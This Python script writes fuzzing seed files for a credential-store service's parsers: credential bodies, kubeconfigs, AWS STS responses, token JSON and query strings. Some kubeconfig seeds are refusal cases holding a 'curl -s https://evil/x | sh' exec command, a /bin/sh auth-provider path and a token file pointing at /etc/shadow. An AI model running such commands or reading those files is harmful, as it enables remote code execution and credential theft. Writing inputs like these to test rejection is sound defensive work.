#!/usr/bin/env python3
"""Write the text seeds of tests/fuzz/corpus/ (re-runnable; see README.md).

fuzz_jwt and fuzz_keyring seeds depend on the fixed keyring and come from
fuzz_seedgen instead. Credential bodies and kubeconfigs are built from
tests/fixtures/, so they stay as real as the fixtures are.
"""
import base64
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
FIXTURES = HERE.parent / "fixtures"
CORPUS = HERE / "corpus"
SEED_MAX = 16 * 1024


def put(harness, name, data):
    if isinstance(data, str):
        data = data.encode()
    assert len(data) < SEED_MAX, (harness, name, len(data))
    d = CORPUS / harness
    d.mkdir(parents=True, exist_ok=True)
    (d / name).write_bytes(data)


def fixture(name):
    return (FIXTURES / name).read_text()


# ------------------------------------------------------------ fuzz_cred_body
# First byte: the provider, (byte - 'A') % 8 over cs_providers[] (aws, azure,
# gcp, ibmCloud, kubeconfig, basic, apiToken, certificate), spelled 'A'..'H'.
PREFIX = {"aws": "A", "azure": "B", "gcp": "C", "ibmCloud": "D", "kubeconfig": "E",
          "basic": "F", "apiToken": "G", "certificate": "H"}


def body(name, typ, doc):
    put("fuzz_cred_body", name, PREFIX[typ] + json.dumps(doc, indent=1))


def cred(cid, typ, **fields):
    doc = {"_id": cid, "type": typ, "description": f"{typ} credential for the scanner"}
    doc.update(fields)
    return doc


body("aws-static", "aws", cred("prod-aws-billing", "aws", accountID="AKIAIOSFODNN7EXAMPLE",
                               secret={"plain": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"},
                               region="us-east-1"))
body("aws-assume-role", "aws", cred(
    "prod-aws-audit", "aws", accountID="AKIAI44QH8DHBEXAMPLE",
    secret={"plain": "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY"},
    roleArn="arn:aws:iam::123456789012:role/service-role/credstore-scanner",
    externalID="prisma-7f3c2a1e-9d4b", durationSeconds=3600, region="eu-west-1",
    useSTSRegionalEndpoint=True, useAWSRole=False))
body("aws-instance-role", "aws", cred(
    "ec2-role", "aws", useAWSRole=True, accountID="", secret={"plain": ""},
    roleArn="arn:aws-us-gov:iam::210987654321:role/reader", durationSeconds=None))
body("aws-bad-key-id", "aws", cred("bad", "aws", accountID="akia-lowercase",
                                   secret={"plain": "x y"}, durationSeconds=899.5))
body("azure-sdk-auth", "azure", cred("azure-prod", "azure",
                                     secret={"plain": fixture("azure-sdk-auth.json")}))
az = json.loads(fixture("azure-sdk-auth.json"))
del az["clientSecret"]
body("azure-missing-secret", "azure", cred("azure-dev", "azure", secret={"plain": json.dumps(az)}))
body("gcp-service-account", "gcp", cred("gcp-scanner", "gcp",
                                        secret={"plain": fixture("gcp-service-account.json")},
                                        apiToken={"plain": ""}))
body("gcp-api-token", "gcp", cred("gcp-api", "gcp",
                                  apiToken={"plain": "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"}))
body("gcp-both", "gcp", cred("gcp-both", "gcp", secret={"plain": "{}"},
                             apiToken={"plain": "AIzaSyD-9tSrke72PouQMnMX-a7eZSW0jkFMBWY"}))
body("ibm-api-key", "ibmCloud", cred("ibm-prod", "ibmCloud",
                                     accountGUID="1a2b3c4d5e6f47a8b9c0d1e2f3a4b5c6",
                                     secret={"plain": "Zk3vB_7q-Qm2xW9rT4yU1iO8pA6sD5fG0hJ2kL3zX4cV"}))
body("ibm-missing-guid", "ibmCloud", cred("ibm-dev", "ibmCloud", secret={"plain": "k"}))
for f in sorted(FIXTURES.glob("kubeconfig-*.yaml")):
    stem = f.stem.removeprefix("kubeconfig-")
    body(f"kubeconfig-{stem}", "kubeconfig", cred(f"kube-{stem}", "kubeconfig",
                                                 secret={"plain": f.read_text()}))
put("fuzz_cred_body", "not-an-object", "A[1,2,{\"secret\":{\"plain\":null}}]")
put("fuzz_cred_body", "deep", "B" + "[" * 33 + "]" * 33)
# v2: the three new types, azure's plain format, Prisma fields, names.
PEM = (FIXTURES / "pki" / "client-ec.pem").read_text()
body("basic", "basic", cred("Harbor robot account", "basic", accountID="robot$scanner",
                            secret={"plain": "s3cr3t pass"}, url="https://harbor.example/v2/",
                            caCert=PEM.split("-----BEGIN PRIVATE")[0], skipVerify=True))
body("basic-empty-secret", "basic", cred("a+b", "basic", accountID="u",
                                         secret={"plain": "", "encrypted": ""}, apiToken={}))
body("api-token", "apiToken", cred("Slack #alerts", "apiToken", apiToken={"plain": "xoxb-1-2-3"},
                                   secret={}))
body("api-token-both", "apiToken", cred("caf\u00e9 \u2603", "apiToken",
                                        apiToken={"plain": "a"}, secret={"plain": "b"}))
body("certificate", "certificate", cred("mTLS client 1", "certificate", secret={"plain": PEM}))
body("certificate-key-only", "certificate",
     cred("100%", "certificate", secret={"plain": "-----BEGIN PRIVATE" + PEM.split("-----BEGIN PRIVATE")[1]}))
AZ = json.loads(fixture("azure-sdk-auth.json"))
body("azure-plain", "azure", cred("az plain", "azure", secret={"plain": json.dumps(
    {"appId": AZ["clientId"], "displayName": "azure-cli", "password": AZ["clientSecret"],
     "tenant": AZ["tenantId"]})}, azureSPInfo={"subscriptionId": AZ["subscriptionId"]}))
body("prisma-fields", "ibmCloud", cred("Registry \u00fc <prod> & co", "ibmCloud", accountGUID="g-1",
                                       secret={"plain": "k"}, accountName="n", **{"global": False},
                                       external=True, stsEndpoints=["https://sts"],
                                       cloudProviderAccountID="123", tokens={"duration": 0}))
for i, n in enumerate([" lead", "trail ", ".", "..", "a/b", "a\\b", "nl\n", "\u0085",
                       "x" * 129, "\U0001f511" * 97]):
    body("bad-name-%d" % i, "basic", cred(n, "basic", accountID="u", secret={"plain": "p"}))

# ----------------------------------------------------------- fuzz_kubeconfig
for f in sorted(FIXTURES.glob("kubeconfig-*.yaml")):
    put("fuzz_kubeconfig", f.stem, f.read_text())
put("fuzz_kubeconfig", "minimal-flow", """\
{apiVersion: v1, kind: Config, current-context: c,
 clusters: [{name: k, cluster: {server: "https://127.0.0.1:6443"}}],
 users: [{name: u, user: {token: abc}}],
 contexts: [{name: c, context: {cluster: k, user: u}}]}
""")
put("fuzz_kubeconfig", "anchors", """\
clusters:
- &c {name: k, cluster: {server: https://k:6443}}
users:
- name: u
  user: {client-certificate-data: 'LS0t', client-key-data: "LS0t\\x00"}
contexts:
- *c
current-context: ~
""")
put("fuzz_kubeconfig", "multi-doc-tags", """\
%YAML 1.1
---
!!map
clusters: !!seq [ ]
users: null
current-context: 'x'
...
--- |
  second document
""")

# Issue 11: the refusals (merge keys, anchors, tags, fields that run programs,
# read local files or reroute credentials), and one document with every field
# that is allowed, so mutations start on both sides of each rule.
KUBE_HEAD = """\
apiVersion: v1
kind: Config
clusters:
- name: c
  cluster:
    server: https://10.96.0.1:6443
    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
contexts:
- name: x
  context: {cluster: c, user: u, namespace: twistlock}
current-context: x
"""
put("fuzz_kubeconfig", "merge-user-exec", KUBE_HEAD + """\
users:
- name: u
  user: {<<: {exec: {command: /bin/sh, args: [-c, 'curl -s https://evil/x | sh']}}}
""")
put("fuzz_kubeconfig", "merge-entry-auth-provider", KUBE_HEAD + """\
users:
- name: u
  "<<":
    user:
      auth-provider: {name: gcp, config: {cmd-path: /bin/sh}}
""")
put("fuzz_kubeconfig", "merge-alias-tag", KUBE_HEAD + """\
extensions:
- name: base
  extension: &b {exec: {command: sh}}
users:
- name: u
  user:
    token: abc
    <<: *b
    !!merge <<: {tokenFile: /etc/shadow}
""")
put("fuzz_kubeconfig", "file-paths", KUBE_HEAD.replace(
    "    certificate-authority-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==\n",
    "    certificate-authority: /etc/kubernetes/pki/ca.crt\n") + """\
users:
- name: u
  user:
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
    client-certificate: /home/u/.kube/client.crt
    client-key: /home/u/.kube/client.key
""")
put("fuzz_kubeconfig", "reroute", """\
clusters:
- name: c
  cluster:
    server: http://10.0.0.7:8080
    insecure-skip-tls-verify: true
    proxy-url: socks5://127.0.0.1:1080
- name: d
  cluster: {server: "https://admin:pw@10.0.0.8", tls-server-name: api}
users:
- {name: u, user: {username: admin, password: "p@ss"}}
contexts:
- {name: x, context: {cluster: c, user: u}}
current-context: x
""")
put("fuzz_kubeconfig", "allowed-fields", KUBE_HEAD + """\
preferences: {colors: true}
extensions:
- name: cluster_info
  extension: {provider: minikube.sigs.k8s.io, version: v1.32.0}
users:
- name: u
  user:
    token: eyJhbGciOiJSUzI1NiJ9.e30.c2ln
    client-certificate-data: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==
    client-key-data: LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCg==
    as: system:serviceaccount:twistlock:scanner
    as-uid: "1001"
    as-groups: [system:authenticated]
    as-user-extra: {reason: [audit]}
    extensions: [{name: e, extension: null}]
- name: local
  user: {username: admin, password: "<<"}
""")

# -------------------------------------------------------------- fuzz_sts_xml
TOKEN = ("IQoJb3JpZ2luX2VjEOr//////////wEaCXVzLWVhc3QtMSJHMEUCIQDkQ3l7v8H9c2QeH8wYp1k"
         "Ksq0fZ4oA1nJ9cXmZbLx0HwIgWm3qf+7yK5ePBd1G2r9sYFf0aNqO3hTgU8jv4xZcR6Mq9AIIs"
         "///////////ARAAGgw0MjE2NTU0OTg4NzMiDJqQ2uX8Ykn1b7Vj1SrNAlWm3Ee0EXAMPLE=")
put("fuzz_sts_xml", "assume-role", f"""\
<AssumeRoleResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">
  <AssumeRoleResult>
    <SourceIdentity>credstore</SourceIdentity>
    <AssumedRoleUser>
      <AssumedRoleId>AROA3XFRBF535PLBIFPI4:credstore-prod-aws-audit</AssumedRoleId>
      <Arn>arn:aws:sts::123456789012:assumed-role/credstore-scanner/credstore-prod-aws-audit</Arn>
    </AssumedRoleUser>
    <Credentials>
      <AccessKeyId>ASIA3XFRBF53EXAMPLE7</AccessKeyId>
      <SecretAccessKey>9drTJvcXLB89EXAMPLELB8923FB892xMFI/4pRz+X</SecretAccessKey>
      <SessionToken>{TOKEN}</SessionToken>
      <Expiration>2025-11-22T16:46:40Z</Expiration>
    </Credentials>
    <PackedPolicySize>6</PackedPolicySize>
  </AssumeRoleResult>
  <ResponseMetadata>
    <RequestId>c6104cbe-af31-11e0-8154-cbc7ccf896c7</RequestId>
  </ResponseMetadata>
</AssumeRoleResponse>
""")
put("fuzz_sts_xml", "access-denied", """\
<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">
  <Error>
    <Type>Sender</Type>
    <Code>AccessDenied</Code>
    <Message>User: arn:aws:iam::123456789012:user/credstore is not authorized to perform: sts:AssumeRole on resource: arn:aws:iam::123456789012:role/credstore-scanner</Message>
  </Error>
  <RequestId>4a2a6d0e-8b7c-4a5e-9c3f-2f1e0d9c8b7a</RequestId>
</ErrorResponse>
""")
put("fuzz_sts_xml", "throttling", """\
<?xml version="1.0" encoding="UTF-8"?>
<!-- STS under load -->
<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error><Type>Sender</Type>\
<Code>Throttling</Code><Message>Rate exceeded &amp; retry &#x2014; later &lt;soon&gt;</Message>\
</Error><RequestId>f00d</RequestId></ErrorResponse>""")
put("fuzz_sts_xml", "query-api-error", """\
<Response><Errors><Error><Code>InvalidClientTokenId</Code>\
<Message><![CDATA[The security token included in the request is invalid.]]></Message>\
</Error></Errors><RequestID>x</RequestID></Response>""")
put("fuzz_sts_xml", "prefixed-attrs", f"""\
<sts:AssumeRoleResponse xmlns:sts='https://sts.amazonaws.com/doc/2011-06-15/'>\
<sts:AssumeRoleResult><sts:Credentials a="1" b='2'>\
<sts:AccessKeyId>ASIA3XFRBF53EXAMPLE7</sts:AccessKeyId>\
<sts:SecretAccessKey>&#57;drTJvcXLB89EXAMPLE</sts:SecretAccessKey>\
<sts:SessionToken>{TOKEN[:64]}</sts:SessionToken>\
<sts:Expiration>2025-11-22T16:46:40.123+01:00</sts:Expiration>\
<Extra/></sts:Credentials></sts:AssumeRoleResult></sts:AssumeRoleResponse>""")
put("fuzz_sts_xml", "doctype", """\
<!DOCTYPE lolz [<!ENTITY lol "lol">]><ErrorResponse><Error><Code>&lol;</Code></Error></ErrorResponse>""")

put("fuzz_sts_xml", "session-token", f"""\
<GetSessionTokenResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">
  <GetSessionTokenResult>
    <Credentials>
      <SessionToken>{TOKEN}</SessionToken>
      <SecretAccessKey>wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY</SecretAccessKey>
      <Expiration>2025-11-22T17:46:40.611Z</Expiration>
      <AccessKeyId>ASIAIOSFODNN7EXAMPLE</AccessKeyId>
    </Credentials>
  </GetSessionTokenResult>
  <ResponseMetadata>
    <RequestId>58c5dbae-abef-11e0-8cfe-09039844ac7d</RequestId>
  </ResponseMetadata>
</GetSessionTokenResponse>
""")
put("fuzz_sts_xml", "caller-identity", """\
<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">
  <GetCallerIdentityResult>
    <Arn>arn:aws:iam::123456789012:user/credstore</Arn>
    <UserId>AIDASAMPLEUSERID</UserId>
    <Account>123456789012</Account>
  </GetCallerIdentityResult>
  <ResponseMetadata>
    <RequestId>01234567-89ab-cdef-0123-456789abcdef</RequestId>
  </ResponseMetadata>
</GetCallerIdentityResponse>
""")

# ----------------------------------------------------------- fuzz_token_json
put("fuzz_token_json", "entra", json.dumps({
    "token_type": "Bearer", "expires_in": 3599, "ext_expires_in": 3599,
    "access_token": "eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL21hbmFnZW1lbnQ"
                    "uYXp1cmUuY29tLyJ9.c2lnbmF0dXJl"}))
put("fuzz_token_json", "google", json.dumps({
    "access_token": "ya29.c.b0Aaekm1KEXAMPLE", "expires_in": "3599", "token_type": "bearer"}))
put("fuzz_token_json", "ibm", json.dumps({
    "access_token": "eyJraWQiOiIyMDI1MTEyMiIsImFsZyI6IlJTMjU2In0.e30.sig",
    "refresh_token": "not_supported", "ims_user_id": 1234567, "token_type": "Bearer",
    "expires_in": 3600, "expiration": 1763830000, "scope": "ibm openid"}))
put("fuzz_token_json", "entra-error", json.dumps({
    "error": "invalid_client",
    "error_description": "AADSTS7000215: Invalid client secret provided.",
    "error_codes": [7000215], "timestamp": "2025-11-22 15:46:40Z",
    "trace_id": "0000", "correlation_id": "1111"}))
put("fuzz_token_json", "ibm-error", json.dumps({
    "errorCode": "BXNIM0415E", "errorMessage": "Provided API key could not be found.",
    "context": {"requestId": "abc"}}))

# ------------------------------------------------------------ fuzz_imds_json
put("fuzz_imds_json", "success", json.dumps({
    "Code": "Success", "LastUpdated": "2025-11-22T15:20:01Z", "Type": "AWS-HMAC",
    "AccessKeyId": "ASIA5EXAMPLEIMDSKEY1",
    "SecretAccessKey": "Jk8+u2EXAMPLEimdsSecretKeyQy0z/7bXw3Lr9aT",
    "Token": TOKEN, "Expiration": "2025-11-22T21:45:12Z"}, indent=2))
put("fuzz_imds_json", "not-success", json.dumps({
    "Code": "AssumeRoleUnauthorizedAccess", "LastUpdated": "2025-11-22T15:20:01Z",
    "Message": "EC2 cannot assume the role credstore-scanner. Please see documentation."}))
put("fuzz_imds_json", "odd-types", '{"Code":"Success","AccessKeyId":1,"SecretAccessKey":null,'
                                    '"Token":["x"],"Expiration":"2025-02-30T00:00:00Z"}')

# ---------------------------------------------------------------- fuzz_basic
def b64(s):
    return base64.b64encode(s.encode()).decode()


put("fuzz_basic", "key-secret", "Basic " + b64("ak_3f9c2e7a1b04d5e6c7a8:"
                                               "9b1e4f0c2d7a6e5b8c3f1a0d9e2b7c4f6a8d0e1b3c5f7a9"))
put("fuzz_basic", "lowercase-spaces", "basic    " + b64("ak_1:s3cr3t"))
put("fuzz_basic", "no-colon", "Basic " + b64("justanid"))
put("fuzz_basic", "nul-inside", "Basic " + base64.b64encode(b"ak_1\0:x").decode())
put("fuzz_basic", "bad-padding", "Basic YWtfMTpz=")
put("fuzz_basic", "bare", b64("id:" + "s" * 140))

# ------------------------------------------------------------ fuzz_cred_meta
# Stored metas: cJSON's compact print of an object (credentials.c compose_meta).
META = {
    "aws": {"accountID": "123456789012", "description": "prod", "owner": "ak-1"},
    "gcp-token": {"authType": "apiToken", "projectId": "p", "owner": "k"},
    "role": {"useAWSRole": True, "roleArn": "arn:aws:iam::1:role/r", "externalId": "x,}]"},
    "escapes": {"description": "q\"uote \\ back\n\t\u0001 \u00e9 \u2603"},
    "nested": {"n": -1.5e300, "a": [1, {"b": "}"}, []], "o": {}, "t": None},
}
for name, doc in META.items():
    put("fuzz_cred_meta", name, json.dumps(doc, separators=(",", ":"), ensure_ascii=False))
put("fuzz_cred_meta", "empty", "{}")
put("fuzz_cred_meta", "truncated", '{"a":"x\\"}","b":[1,{"c":null}')

# ---------------------------------------------------------------- fuzz_query
QUERIES = {
    "list": "offset=10&limit=50&type=aws&search=prod&sort=_id&reverse=true",
    "list-encoded": "search=prod%20eu%2Bwest&type=ibmCloud&sort=lastModified&reverse=0&limit=500",
    "audit": "since=18446744073709551614&limit=1000&credential=prod-aws-billing",
    "events": "since=0&wait=60&credential=kube.prod_eu-1",
    "overflow": "offset=99999999999999999999&limit=0&since=-1&wait=61",
    "expires": "expiresAt=2026-11-22T15:42:10Z&expiresAt=2024-02-29T23:59:60.5%2B05:30",
    "if-match": "If-Match=%22007%22&If-Match=3&credential=",
    "odd": "&&=&offset&limit=+1&type=gcp%00x&credential=" + "a" * 129,
    "ids-split": "ids=AWS%20prod%20account,a%2Bb,,100%25&type=basic",
    "ids-repeated": "ids=a%2Cb&ids=&ids=caf%C3%A9%20%E2%98%83&ids=x%00y&ids=%2E%2E",
    "names": "credential=AWS+prod+account&ids=%20lead&ids=a%2Fb&credential=%F0%9F%94%91",
}
for name, q in QUERIES.items():
    put("fuzz_query", name, q)
